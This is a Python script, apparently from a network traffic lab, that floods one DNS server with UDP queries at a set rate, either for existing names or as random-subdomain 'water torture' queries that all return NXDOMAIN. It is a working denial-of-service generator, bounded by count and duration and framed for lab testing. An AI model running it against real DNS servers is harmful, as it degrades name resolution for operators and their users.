#!/usr/bin/env python3
"""Bounded DNS query flood used by the edgewatch traffic lab (standard library only).

Sends DNS queries over UDP to ONE server at a fixed rate until --count queries were sent or
--duration-s elapsed, whichever comes first. Two modes:
  names   queries for names that exist in the lab zone (plain query flood)
  random  random-subdomain ("water torture") queries: <random label>.<zone>, all NXDOMAIN
Responses are read and counted but not otherwise used. The lab runs it inside an attacker
namespace against the lab's own DNS server only.
"""
import argparse
import random
import select
import socket
import struct
import sys
import time

QTYPES = {"A": 1, "NS": 2, "MX": 15, "TXT": 16, "AAAA": 28, "ANY": 255}


def build_query(qid: int, name: str, qtype: int, rd: bool) -> bytes:
    flags = 0x0100 if rd else 0x0000
    header = struct.pack("!HHHHHH", qid, flags, 1, 0, 0, 0)
    qname = b"".join(bytes([len(p)]) + p.encode("ascii") for p in name.rstrip(".").split(".")) + b"\x00"
    return header + qname + struct.pack("!HH", qtype, 1)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--server", required=True)
    ap.add_argument("--port", type=int, default=53)
    ap.add_argument("--zone", default="lab.test")
    ap.add_argument("--mode", choices=["names", "random"], default="random")
    ap.add_argument("--names", default="www,mail,api,cdn,ns1", help="comma list of existing labels (names mode)")
    ap.add_argument("--qtypes", default="A,AAAA,TXT,MX")
    ap.add_argument("--qps", type=float, required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--duration-s", type=float, required=True)
    ap.add_argument("--sockets", type=int, default=4, help="source sockets (source ports) to rotate over")
    ap.add_argument("--seed", type=int, default=0)
    a = ap.parse_args()
    if a.qps <= 0 or a.count <= 0 or a.duration_s <= 0:
        ap.error("qps, count and duration must be positive")
    rng = random.Random(a.seed)
    fam = socket.AF_INET6 if ":" in a.server else socket.AF_INET
    socks = []
    for _ in range(max(1, a.sockets)):
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.setblocking(False)
        s.connect((a.server, a.port))
        socks.append(s)
    names = [n for n in a.names.split(",") if n]
    qtypes = [QTYPES[q] for q in a.qtypes.split(",")]
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    interval = 1.0 / a.qps
    t0 = time.monotonic()
    deadline = t0 + a.duration_s
    sent = recv = 0
    next_t = t0
    while sent < a.count:
        now = time.monotonic()
        if now >= deadline:
            break
        if now < next_t:
            r, _, _ = select.select(socks, [], [], min(next_t - now, 0.05))
            for s in r:
                try:
                    while True:
                        s.recv(4096)
                        recv += 1
                except (BlockingIOError, ConnectionRefusedError):
                    pass
            continue
        if a.mode == "random":
            label = "".join(rng.choice(alphabet) for _ in range(rng.randint(8, 20)))
            if rng.random() < 0.3:
                label += "." + "".join(rng.choice(alphabet) for _ in range(rng.randint(3, 8)))
            name = f"{label}.{a.zone}"
        else:
            name = f"{rng.choice(names)}.{a.zone}"
        pkt = build_query(rng.getrandbits(16), name, rng.choice(qtypes), rd=True)
        try:
            socks[sent % len(socks)].send(pkt)
        except (BlockingIOError, ConnectionRefusedError):
            pass
        sent += 1
        next_t += interval
        if next_t < now - 0.5:  # fell far behind: do not burst to catch up
            next_t = now
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        r, _, _ = select.select(socks, [], [], 0.1)
        for s in r:
            try:
                while True:
                    s.recv(4096)
                    recv += 1
            except (BlockingIOError, ConnectionRefusedError):
                pass
    print(f"dnsflood: sent={sent} received={recv} elapsed={time.monotonic() - t0:.2f}s", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
